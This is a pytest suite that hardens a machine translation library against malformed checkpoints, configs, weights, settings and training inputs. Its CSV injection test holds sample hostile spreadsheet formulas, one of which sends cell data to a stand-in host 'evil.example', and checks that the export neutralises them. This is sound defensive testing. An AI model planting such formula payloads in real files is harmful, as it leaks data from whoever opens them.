"""Issue 14: one bad checkpoint, setting or file never takes anything else down (library, CLI, training).

Each test is one case of the issue; the app's side (every page beside a broken checkpoint) is in
tests/test_hardening_app.py. Property tests fuzz DecodeSettings and config.json fields with hypothesis.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import math
import re
import shutil
import tomllib
from pathlib import Path

import pandas as pd
import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from safetensors.torch import load_file, save_file

import nmt_core.checkpoint as checkpoint_module
from nmt_core.__main__ import MAX_TRACE_BYTES, _bounded_trace_json
from nmt_core.__main__ import main as cli_main
from nmt_core.card import model_card
from nmt_core.checkpoint import (
    MAX_PARAMETERS,
    CheckpointError,
    check_checkpoint,
    expected_weights,
    load_checkpoint,
    model_config,
    read_config,
    weights_for_saving,
)
from nmt_core.config_schema import ConfigSchemaError, validate_config
from nmt_core.data import bucket, check_split, read_split
from nmt_core.decoding import DecodeSettings, InputError, Trace, sampling_distribution
from nmt_core.evaluate import MAX_UPLOAD_BYTES, EvalInputError, EvalRow, decode_upload
from nmt_core.model import TransformerConfig, build_model, config_from_dict
from nmt_core.views import models as model_info
from nmt_core.views.evaluation import results_csv, sentence_frame
from tests.conftest import write_reverse_corpus

ROOT = Path(__file__).resolve().parents[1]
SHIPPED_CONFIG = json.loads((ROOT / "checkpoints" / "spa-eng-luong" / "config.json").read_text(encoding="utf-8"))


def copy_checkpoint(root: Path, name: str) -> Path:
    folder = root / name
    shutil.copytree(root / "tiny-luong", folder)
    return folder


def edit_config(folder: Path, change) -> None:
    config = json.loads((folder / "config.json").read_text())
    change(config)
    (folder / "config.json").write_text(json.dumps(config))


def one_error_line(capsys) -> str:
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in err, err
    return lines[0]


# -- 1. a mistyped or deeply nested config.json ------------------------------------------------------------------


def deep_config(folder: Path, depth: int) -> None:
    """config.json with an extra entry nested ``depth`` lists deep (written as text: json.dumps would recurse)."""
    config = json.loads((folder / "config.json").read_text())
    text = json.dumps(config)
    (folder / "config.json").write_text(text[:-1] + ', "extra": ' + "[" * depth + "]" * depth + "}")


@pytest.mark.parametrize("how, words", [
    ("language", "source_language must be text, not ['spa']"),
    ("deep", "not valid JSON (nested too deeply)"),
    ("nested", "extra[0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0] is nested more than 16 levels deep"),
])
def test_a_mistyped_or_deep_config_is_one_checkpoint_error(models_root, capsys, how, words):
    folder = copy_checkpoint(models_root, "bad")
    if how == "language":
        edit_config(folder, lambda c: c.update(source_language=["spa"]))
    else:
        deep_config(folder, 100_000 if how == "deep" else 40)
    for reader in (read_config, check_checkpoint, load_checkpoint):
        with pytest.raises(CheckpointError) as caught:
            reader(folder)
        assert caught.value.path == str(folder / "config.json") and words in str(caught.value), str(caught.value)
    assert cli_main(["translate", "-c", str(folder), "alpha beta"]) == 2
    assert words in one_error_line(capsys)


def test_a_config_json_larger_than_any_real_one_is_refused_unread(models_root):
    folder = copy_checkpoint(models_root, "padded")
    edit_config(folder, lambda c: c.update(padding="x" * 2_000_000))
    with pytest.raises(CheckpointError, match=r"config\.json: larger than 1,000,000 bytes"):
        check_checkpoint(folder)


# -- 2. a small checkpoint whose config describes a huge model ---------------------------------------------------


def shapes_only() -> bool:
    """True while the loader lays a model out on the meta device (checkpoint._ShapesOnly is active)."""
    return any(isinstance(mode, checkpoint_module._ShapesOnly)
               for mode in torch.overrides._get_current_function_mode_stack())


@pytest.fixture
def no_big_build(monkeypatch):
    """Fail the test (instead of allocating gigabytes) if the loader builds a real model over the limit.

    Wraps checkpoint.build_model: a real build (not the meta layout) is measured first, and refused when
    it would have more than MAX_PARAMETERS. Returns the parameter counts of the real builds."""
    real_builds: list[int] = []
    original = checkpoint_module.build_model

    def guarded(cfg):
        if shapes_only():
            return original(cfg)
        count = expected_weights(cfg)[1]  # the meta layout (its counts equal a real build's: tested below)
        assert count <= MAX_PARAMETERS, f"a real model of {count:,} parameters was about to be built"
        real_builds.append(count)
        return original(cfg)

    monkeypatch.setattr(checkpoint_module, "build_model", guarded)
    return real_builds


SMALL_CONFIGS = [
    *({"src_vocab_size": 50, "tgt_vocab_size": 60, "rnn_type": rnn, "attention": attention, "num_layers": 2,
       "input_feeding": attention.startswith("luong"), "tie_embeddings": attention != "none",
       "reverse_source": attention == "none"} for rnn in ("gru", "lstm")
      for attention in ("none", "bahdanau", "luong-dot", "luong-general")),
    TransformerConfig(50, 60, d_model=32, num_heads=4, encoder_layers=2, decoder_layers=1, ff_size=64).to_dict(),
    TransformerConfig(50, 60, d_model=32, num_heads=2, encoder_layers=1, decoder_layers=2, ff_size=48,
                      tie_embeddings=False).to_dict(),
]


@pytest.mark.parametrize("model", SMALL_CONFIGS, ids=lambda m: "-".join(str(v) for v in (
    m.get("architecture", m.get("rnn_type")), m.get("attention", m.get("tie_embeddings")))))
def test_the_meta_layout_has_a_real_models_tensors_and_count(model):
    cfg = config_from_dict(model)
    shapes, count = expected_weights(cfg)
    real = build_model(cfg)
    assert shapes == {n: tuple(t.shape) for n, t in weights_for_saving(real, torch.float32).items()}
    assert count == real.parameter_count()
    assert not shapes_only()  # the mode ends with the layout


def huge_transformer(model: dict) -> None:
    model.clear()
    model.update(TransformerConfig(10**5, 10**5, d_model=4096, num_heads=64, encoder_layers=24, decoder_layers=24,
                                   ff_size=16384).to_dict())


HUGE = {  # the cases: every size 8192 with 8 LSTM layers and Bahdanau; hidden 4096 x 3 layers; a Transformer
    "rnn-8192": lambda m: m.update(embedding_dim=8192, hidden_size=8192, attention_size=8192, output_size=8192,
                                   num_layers=8, rnn_type="lstm", attention="bahdanau"),
    "rnn-4096x3": lambda m: m.update(hidden_size=4096, num_layers=3),
    "transformer": huge_transformer,
}


@pytest.mark.parametrize("how", HUGE)
def test_a_config_describing_a_huge_model_is_refused_before_anything_is_built(models_root, no_big_build, how):
    folder = copy_checkpoint(models_root, "huge")
    edit_config(folder, lambda c: HUGE[how](c["model"]))
    for reader in (check_checkpoint, load_checkpoint):
        with pytest.raises(CheckpointError, match=f"this library loads at most {MAX_PARAMETERS:,}") as caught:
            reader(folder)
        assert caught.value.path == str(folder / "config.json")
    assert no_big_build == []  # nothing real was built


def test_weights_that_do_not_fit_the_config_are_caught_from_the_header(models_root, no_big_build):
    """Same parameter count, other shapes: the header is compared tensor by tensor before any build."""
    folder = copy_checkpoint(models_root, "reshaped")
    tensors = load_file(str(folder / "model.safetensors"))
    name = next(n for n, t in tensors.items() if t.dim() == 2 and t.shape[0] != t.shape[1])
    tensors[name] = tensors[name].t().contiguous()
    save_file(tensors, str(folder / "model.safetensors"))
    edit_config(folder, lambda c: c.update(sha256={}))
    with pytest.raises(CheckpointError, match=re.escape(f"wrong shape {name}")) as caught:
        check_checkpoint(folder)  # the cheap check: nothing loaded, nothing built
    assert caught.value.path == str(folder / "model.safetensors")
    assert no_big_build == []


def test_a_good_checkpoint_builds_once_within_the_limit(models_root, no_big_build):
    load_checkpoint(models_root / "tiny-luong")
    assert len(no_big_build) == 1 and no_big_build[0] <= MAX_PARAMETERS


# -- 3. values that passed the old check and crashed later --------------------------------------------------------

BAD_VALUES = {
    "dropout-1.5": (lambda c: c["model"].update(dropout=1.5), "model.dropout must be a number from 0 up to"),
    "dropout-nan": (lambda c: c["model"].update(dropout=math.nan), "model.dropout must be a finite number, not nan"),
    "beam-text": (lambda c: c["decoding_defaults"].update(beam_size="5"),
                  "decoding_defaults.beam_size must be a whole number from 1 to 50, not '5'"),
    "beam-5.5": (lambda c: c["decoding_defaults"].update(beam_size=5.5),
                 "decoding_defaults.beam_size must be a whole number from 1 to 50, not 5.5"),
    "defaults-list": (lambda c: c.update(decoding_defaults=[]), "decoding_defaults must be an object, not []"),
    "low-infinity": (lambda c: c["metrics"]["test_by_source_length"][0].update(low=math.inf),
                     "metrics.test_by_source_length[0].low must be a finite number, not inf"),
    "low-text": (lambda c: c["metrics"]["test_by_source_length"][0].update(low="1"),
                 "metrics.test_by_source_length[0].low must be a whole number from 1 to 1000, not '1'"),
    "bleu-huge": (lambda c: c["metrics"].update(test_bleu=1e300), "metrics.test_bleu must be a number from 0 to 100"),
    "history": (lambda c: c["history"].append({"epoch": "one"}), "must be a whole number from 1 to"),
    "rnn-type": (lambda c: c["model"].update(rnn_type=["gru"]), "model.rnn_type must be one of 'gru', 'lstm'"),
    "bidirectional": (lambda c: c["model"].update(bidirectional="yes"), "model.bidirectional must be true or false"),
    "vocab-bool": (lambda c: c["model"].update(src_vocab_size=True), "model.src_vocab_size must be a whole number"),
    "parameters": (lambda c: c.update(parameters=-1), "parameters must be a whole number from 0 to"),
    "checksum": (lambda c: c["sha256"].update({"model.safetensors": 5}), "sha256.model.safetensors must be text"),
}


@pytest.mark.parametrize("case", BAD_VALUES)
def test_one_schema_check_names_the_field(models_root, capsys, case):
    change, words = BAD_VALUES[case]
    folder = copy_checkpoint(models_root, "bad-value")
    edit_config(folder, change)
    with pytest.raises(CheckpointError) as caught:
        check_checkpoint(folder)
    assert caught.value.path == str(folder / "config.json") and words in str(caught.value), str(caught.value)
    assert cli_main(["translate", "-c", str(folder), "alpha beta"]) == 2  # one error line, no traceback
    assert words in one_error_line(capsys)
    assert cli_main(["evaluate", "-c", str(folder), "--split", "test"]) == 2
    assert words in one_error_line(capsys)


TRANSFORMER_BAD = {
    "heads": ({"num_heads": "4"}, "model.num_heads must be a whole number from 1 to 64"),
    "dropout": ({"dropout": 1.0}, "model.dropout must be a number from 0 up to (not including) 1"),
    "positions": ({"max_positions": 64}, "model.max_positions must be a whole number from 251 to 4096"),
    "layers": ({"encoder_layers": 0}, "model.encoder_layers must be a whole number from 1 to 24"),
    "architecture": ({"architecture": "rnn"}, "model.architecture must be one of 'transformer'"),
    "tie": ({"tie_embeddings": 1}, "model.tie_embeddings must be true or false"),
}


@pytest.mark.parametrize("case", TRANSFORMER_BAD)
def test_the_schema_checks_a_transformer_field_by_field(case):
    change, words = TRANSFORMER_BAD[case]
    config = {**copy.deepcopy(SHIPPED_CONFIG), "model": TransformerConfig(8000, 8000).to_dict()}
    validate_config(config)  # a well-formed Transformer passes ...
    config["model"].update(change)
    with pytest.raises(ConfigSchemaError, match=re.escape(words)):  # ... and each bad field is named
        validate_config(config)


def test_every_shipped_config_passes_the_schema():
    for path in sorted((ROOT / "checkpoints").glob("*/config.json")):
        validate_config(json.loads(path.read_text(encoding="utf-8")))


# A JSON value of any shape, NaN and infinity included (config.json is parsed with Python's json module,
# which reads NaN and Infinity).
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-10**20, 10**20) | st.floats() | st.text(max_size=8),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=6), children, max_size=3),
    max_leaves=8,
)


def field_paths(value, prefix=()) -> list[tuple]:
    """Every path to a value inside a config (keys and list indexes)."""
    paths = [prefix] if prefix else []
    if isinstance(value, dict):
        for key, item in value.items():
            paths += field_paths(item, (*prefix, key))
    elif isinstance(value, list):
        for index, item in enumerate(value[:3]):
            paths += field_paths(item, (*prefix, index))
    return paths


BASES = {"rnn": SHIPPED_CONFIG,
         "transformer": {**SHIPPED_CONFIG, "model": TransformerConfig(8000, 8000).to_dict(), "attention": "multi-head"}}
PATHS = {name: field_paths(config) for name, config in BASES.items()}


def read_like_every_page(name: str, config: dict) -> None:
    """What the pages, the model card and the CLI read of a config.json (no streamlit)."""
    model_info.overview_frame({name: config}, {name: 1})
    model_info.architecture_frame(config)
    model_info.data_frame(config)
    model_info.training_frame(config)
    model_info.history_frame(config)
    model_info.length_frame({name: config})
    model_info.metrics_summary(config)
    model_info.credit(config)
    model_info.other_language_note(config, "spa")
    model_card(name, config)
    defaults = config.get("decoding_defaults", {})
    DecodeSettings(method="beam", beam_size=defaults.get("beam_size", 5), n_best=1,
                   length_penalty=defaults.get("length_penalty", 1.0)).validate()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(base=st.sampled_from(sorted(BASES)), data=st.data(), value=JSON_VALUES)
def test_any_config_the_schema_accepts_every_reader_can_read(base, data, value):
    """Fuzz one field of a real config (RNN or Transformer): the schema refuses it with a ConfigSchemaError,
    or every reader of the app, the card and the CLI handles it (and the model can be described)."""
    config = copy.deepcopy(BASES[base])
    path = data.draw(st.sampled_from(PATHS[base]))
    target = config
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    try:
        validate_config(config)
    except ConfigSchemaError as error:
        assert str(error).startswith(error.field) and error.field, str(error)
        return
    try:
        model_config(Path("fuzzed"), config)
    except CheckpointError:  # a combination of fields (tie_embeddings needs output_size == embedding_dim...)
        return
    read_like_every_page("fuzzed", config)


# -- 4. NaN or infinite weights --------------------------------------------------------------------------------


def poison_weights(folder: Path, value: float) -> str:
    """Put ``value`` into one tensor of model.safetensors (checksums dropped); returns the tensor's name."""
    tensors = load_file(str(folder / "model.safetensors"))
    name = sorted(tensors)[len(tensors) // 2]
    tensors[name].view(-1)[3] = value
    save_file(tensors, str(folder / "model.safetensors"))
    edit_config(folder, lambda c: c.update(sha256={}))
    return name


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
def test_non_finite_weights_are_refused_at_load_naming_the_tensor(models_root, capsys, value):
    folder = copy_checkpoint(models_root, "poisoned")
    name = poison_weights(folder, value)
    with pytest.raises(CheckpointError, match=re.escape(f"tensor {name!r} holds 1 NaN or infinite value")) as caught:
        load_checkpoint(folder)
    assert caught.value.path == str(folder / "model.safetensors")
    for args in (["--greedy"], ["--beam", "3"], ["--temperature", "1"]):  # empty lines and tracebacks before
        assert cli_main(["translate", "-c", str(folder), *args, "alpha beta"]) == 2
        assert repr(name) in one_error_line(capsys)


# -- 5. decoding settings -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("args, words", [
    (["--top-p", "1e-46"], "top-p must be in (0, 1] and at least 1e-06, not 1e-46"),
    (["--top-p", "1e-7"], "top-p must be in (0, 1] and at least 1e-06"),
    (["--top-p", "0"], "top-p must be in (0, 1]"),
    (["--beam", "5", "--n-best", "0"], "--n-best must be between 1 and the beam width (5), not 0"),
    (["--beam", "5", "--n-best", "-5"], "--n-best must be between 1 and the beam width (5), not -5"),
    (["--beam", "5", "--n-best", "100"], "--n-best must be between 1 and the beam width (5), not 100"),
    (["--n-best", "100"], "--n-best must be between 1 and the beam width"),  # the checkpoint's default beam
    (["--greedy", "--n-best", "3"], "--n-best lists beam search's hypotheses"),
])
def test_out_of_range_settings_are_one_error_line(tiny_checkpoint_dir, capsys, args, words):
    assert cli_main(["translate", "-c", str(tiny_checkpoint_dir), "--json", *args, "alpha beta"]) == 2
    assert words in one_error_line(capsys)


def test_a_tiny_top_p_that_is_allowed_still_samples(tiny_checkpoint_dir, capsys):
    assert cli_main(["translate", "-c", str(tiny_checkpoint_dir), "--top-p", "1e-6", "alpha beta"]) == 0
    assert capsys.readouterr().out.strip()


SETTING_VALUES = (st.integers(-10**20, 10**20) | st.floats() | st.booleans() | st.none()
                  | st.text(max_size=4) | st.lists(st.integers(), max_size=2) | st.sampled_from(["greedy", "sample",
                                                                                                "beam"]))


ANY_SETTINGS = st.fixed_dictionaries({}, optional=dict.fromkeys(DecodeSettings.__dataclass_fields__, SETTING_VALUES))


@settings(max_examples=400, deadline=None)
@given(values=ANY_SETTINGS, logits=st.lists(st.floats(-50, 50), min_size=5, max_size=40))
def test_decode_settings_either_refuse_or_give_a_proper_distribution(values, logits):
    """Any value in any field: validate() raises InputError (never a TypeError), or the settings give a
    distribution that is finite, sums to 1 and keeps at least one token, and a positive length limit."""
    settings_ = DecodeSettings(**values)
    try:
        settings_.validate()
    except InputError:
        return
    log_probs = torch.log_softmax(torch.tensor(logits), dim=-1)
    probs = sampling_distribution(log_probs, settings_)
    assert torch.isfinite(probs).all() and (probs > 0).any()
    assert abs(float(probs.sum()) - 1) < 1e-4
    assert settings_.max_length(10) >= 1


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(method=st.sampled_from(["greedy", "sample", "beam"]), beam=st.integers(1, 50),
       top_p=st.floats(1e-6, 1.0), temperature=st.floats(0, 100), top_k=st.integers(0, 10**6),
       unk=st.floats(0, math.inf))
def test_validated_settings_always_decode(translator, method, beam, top_p, temperature, top_k, unk):
    settings_ = DecodeSettings(method=method, beam_size=beam, n_best=1, top_p=top_p, temperature=temperature,
                               top_k=top_k, unk_penalty=unk, max_tokens=8).validate()
    trace = translator.translate("alpha beta gamma", settings_)
    assert len(trace.steps) <= 8


# -- 6. training inputs ------------------------------------------------------------------------------------------

TINY_MODEL = ["--embedding-dim", "16", "--hidden-size", "32", "--output-size", "16", "--attention-size", "16",
              "--src-vocab-size", "40", "--tgt-vocab-size", "40", "--batch-size", "32", "--no-progress"]


def train_cli(data: Path, out: Path, *extra: str) -> int:
    return cli_main(["train", "--data", str(data), "--out", str(out), "--epochs", "1", *TINY_MODEL, *extra])


def bad_inputs(tmp_path: Path) -> dict[str, tuple[Path, Path, str]]:
    """name -> (data, out, words of the one error line)."""
    good = write_reverse_corpus(tmp_path / "good.tsv", pairs=600)
    (tmp_path / "folder").mkdir()
    (tmp_path / "spa-eng.zip").write_bytes(b"PK\x03\x04 this is not really a zip file" * 10)
    (tmp_path / "empty.tsv").write_text("")
    (tmp_path / "no-tabs.tsv").write_text("one sentence\nanother\n")
    (tmp_path / "latin1.tsv").write_bytes("hola\thello\nadiós\tgoodbye\n".encode("latin-1"))
    (tmp_path / "a-file").write_text("not a folder")
    return {
        "directory": (tmp_path / "folder", tmp_path / "out", "folder: is a directory"),
        "corrupt-zip": (tmp_path / "spa-eng.zip", tmp_path / "out", "spa-eng.zip: not a readable zip file"),
        "empty": (tmp_path / "empty.tsv", tmp_path / "out", "empty.tsv: no sentence pairs in it"),
        "no-tabs": (tmp_path / "no-tabs.tsv", tmp_path / "out", "no-tabs.tsv: no sentence pairs in it"),
        "not-utf8": (tmp_path / "latin1.tsv", tmp_path / "out", "latin1.tsv: not valid UTF-8 (line 2"),
        "out-is-a-file": (good, tmp_path / "a-file", "a-file: already exists and is not a folder; --out"),
        "out-under-a-file": (good, tmp_path / "a-file" / "model", "a-file: is a file, so --out"),
        "missing": (tmp_path / "nowhere.tsv", tmp_path / "out", "nowhere.tsv: no such data file"),
    }


@pytest.mark.parametrize("case", ["directory", "corrupt-zip", "empty", "no-tabs", "not-utf8", "out-is-a-file",
                                  "out-under-a-file", "missing"])
def test_bad_training_inputs_fail_before_the_first_batch_with_one_error_line(tmp_path, capsys, case):
    data, out, words = bad_inputs(tmp_path)[case]
    assert train_cli(data, out) == 2
    assert words in one_error_line(capsys)
    assert not Path(f"{out}.work").exists()  # refused before the run's work folder (and any batch)


def tiny_corpus(path: Path, pairs: int = 200) -> Path:
    """``pairs`` reverse-task pairs none of whose sources falls in the default dev or test part (2% each)."""
    write_reverse_corpus(path, pairs=pairs * 3, seed=5)
    lines = [line for line in path.read_text().splitlines(keepends=True) if bucket(line.split("\t")[0]) >= 0.04]
    path.write_text("".join(lines[:pairs]))
    return path


def test_a_tiny_corpus_is_refused_up_front_with_fractions_that_work(tmp_path, capsys):
    data = tiny_corpus(tmp_path / "tiny.tsv")
    out = tmp_path / "out"
    assert train_cli(data, out) == 2
    line = one_error_line(capsys)
    assert re.search(r"tiny\.tsv: its 19\d pairs leave no test sentences at --test-fraction 0\.02", line), line
    assert not (tmp_path / "out.work").exists()
    # Follow the message's advice until the split works: each hint names a fraction that fills the empty part.
    fractions = {"dev": 0.02, "test": 0.02}
    for _ in range(2):
        split = read_split(data, "src", "tgt", 30, fractions["dev"], fractions["test"], 0)
        try:
            check_split(split, data, 0)
            break
        except ValueError as error:
            part, value = re.search(r"--(dev|test)-fraction of at least ([0-9.]+)", str(error)).groups()
            fractions[part] = float(value)
    split = read_split(data, "src", "tgt", 30, fractions["dev"], fractions["test"], 0)
    check_split(split, data, 0)
    assert len(split.dev) >= 3 and len(split.test) >= 3


@pytest.mark.slow  # trains a model end to end through the CLI (~3 s of CPU)
def test_a_tiny_corpus_with_a_working_split_trains_to_a_checkpoint(tmp_path):
    data = tiny_corpus(tmp_path / "tiny.tsv")
    out = tmp_path / "out"
    assert train_cli(data, out, "--dev-fraction", "0.15", "--test-fraction", "0.15", "--dev-bleu-sentences", "20",
                     "--tune-sentences", "10", "--length-penalties", "1.0", "--probe-sentences", "0") == 0
    assert check_checkpoint(out)["metrics"]["test_sentences"] > 0


# -- 7. CSV injection --------------------------------------------------------------------------------------------


def test_the_csv_download_neutralises_formulas():
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]
    rows = [EvalRow(i + 1, text, [text]) for i, text in enumerate(hostile)]
    frame = sentence_frame(rows, hostile, "m", 2, 1.0)
    back = list(csv.DictReader(io.StringIO(results_csv(frame).decode("utf-8-sig"), newline="")))
    assert len(back) == len(hostile)
    for column in ("source", "translation", "reference"):
        for row in back:
            assert row[column].startswith("'") and row[column][1:] in hostile, row
    plain = sentence_frame([EvalRow(1, "hola = hello", ["hi"])], ["hi - hello"], "m", 2, 1.0)
    again = pd.read_csv(io.BytesIO(results_csv(plain)), encoding="utf-8-sig")
    assert again["source"][0] == "hola = hello" and again["translation"][0] == "hi - hello"  # only a first char


# -- 8. one upload limit -----------------------------------------------------------------------------------------


def test_one_upload_limit_in_bytes_said_in_the_refusal():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] * 1_000_000 == MAX_UPLOAD_BYTES == 2_000_000  # Streamlit's MB
    assert decode_upload(b"a\tb\n" * (MAX_UPLOAD_BYTES // 4)).startswith("a\tb")  # exactly the limit: taken
    with pytest.raises(EvalInputError) as caught:
        decode_upload(b"x" * (MAX_UPLOAD_BYTES + 1))
    assert "2,000,001 bytes; the limit is 2 MB (2,000,000 bytes)" in str(caught.value)


# -- 10. error text names files relative to the checkpoints folder -------------------------------------------------


@pytest.mark.parametrize("how", ["truncated", "config", "missing", "pickle"])
def test_errors_name_files_relative_to_the_checkpoints_folder(models_root, how):
    folder = copy_checkpoint(models_root, "broken")
    file = {"truncated": "model.safetensors", "config": "config.json", "missing": "tgt.model", "pickle": "x.pt"}[how]
    if how == "truncated":
        (folder / file).write_bytes((folder / file).read_bytes()[:1000])
    elif how == "config":
        (folder / file).write_text("{not json")
    elif how == "missing":
        (folder / file).unlink()
    else:
        (folder / file).write_bytes(b"\x80\x04.")
    for reader in (check_checkpoint, load_checkpoint):
        with pytest.raises(CheckpointError) as caught:
            reader(folder)
        message = str(caught.value)
        assert message.startswith(f"broken/{file}: ") and str(models_root) not in message, message
        assert caught.value.path == str(folder / file)  # programs still get the full path


# -- 11. a size bound on --trace --------------------------------------------------------------------------------


def test_a_trace_past_the_bound_is_cut_and_says_so(translator):
    trace = translator.translate("alpha beta gamma delta epsilon zeta",
                                 DecodeSettings(method="beam", beam_size=8, n_best=8))
    full = trace.to_json()
    assert _bounded_trace_json(trace, len(full.encode()) + 1) == (full, None)  # within the bound: untouched
    limit = len(full.encode()) // 3
    text, notice = _bounded_trace_json(trace, limit)
    assert len(text.encode()) <= limit and notice and "trace cut to fit" in notice
    data = json.loads(text)
    nodes = data["beam"]["nodes"]
    assert data["trace_cut"] == notice and data["beam"]["nodes_total"] == len(trace.beam.nodes) > len(nodes) > 0
    assert nodes == json.loads(full)["beam"]["nodes"][: len(nodes)]  # the first nodes, whole
    assert Trace.from_dict(data).translation == trace.translation


def test_the_cli_bounds_trace_output_and_warns(tiny_checkpoint_dir, capsys, monkeypatch):
    """Beam nodes are what grows without bound (everything else is bounded by the output length): the line
    keeps the first nodes that fit, says so in "trace_cut", and warns on stderr."""
    assert MAX_TRACE_BYTES <= 50_000_000
    args = ["translate", "-c", str(tiny_checkpoint_dir), "--beam", "20", "--json", "--trace",
            "alpha beta gamma delta epsilon zeta eta theta"]
    assert cli_main(args) == 0
    full = capsys.readouterr().out
    whole = Trace.from_json(full)
    whole.beam.nodes = []
    limit = (len(full.encode()) + len(whole.to_json().encode())) // 2  # room for about half the nodes
    monkeypatch.setattr("nmt_core.__main__.MAX_TRACE_BYTES", limit)
    assert cli_main(args) == 0
    captured = capsys.readouterr()
    assert len(captured.out.encode()) <= limit + 1 and json.loads(captured.out)["trace_cut"]
    assert captured.err.startswith(f"warning: trace cut to fit {limit:,} bytes")
